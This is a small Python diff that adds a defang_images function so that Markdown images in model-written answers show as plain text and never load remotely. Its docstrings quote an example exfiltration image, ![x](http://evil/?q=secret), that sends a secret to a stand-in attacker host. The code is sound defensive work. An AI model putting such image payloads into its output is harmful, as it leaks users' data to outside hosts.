@@ -68,10 +68,14 @@ _LINK = re.compile(r"(?<!!)\[([^\]\n]+)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s
 _AUTOLINK = re.compile(r"<((?:https?|ftp|mailto):[^>\s]+)>")
 
 
+def defang_images(text: str) -> str:
+    """Markdown images as visible text: an answer never makes a viewer load anything (a viewer
+    that loads ``![x](http://evil/?q=secret)`` sends data out). Applies to every answer."""
+    return _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'untitled'}] (`{m.group(2)}`)", text)
+
+
 def defang_links(text: str) -> str:
-    """Model-written Markdown images and links as visible text: an image is never loaded
-    (a viewer that loads ``![x](http://evil/?q=secret)`` sends data out), a link shows its
-    target as code instead of hiding it behind words."""
-    text = _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'untitled'}] (`{m.group(2)}`)", text)
-    text = _LINK.sub(lambda m: f"{m.group(1)} (`{m.group(2)}`)", text)
+    """Model-written Markdown images and links as visible text: no image is loaded, and a link
+    shows its target as code instead of hiding it behind words."""
+    text = _LINK.sub(lambda m: f"{m.group(1)} (`{m.group(2)}`)", defang_images(text))
     return _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", text)
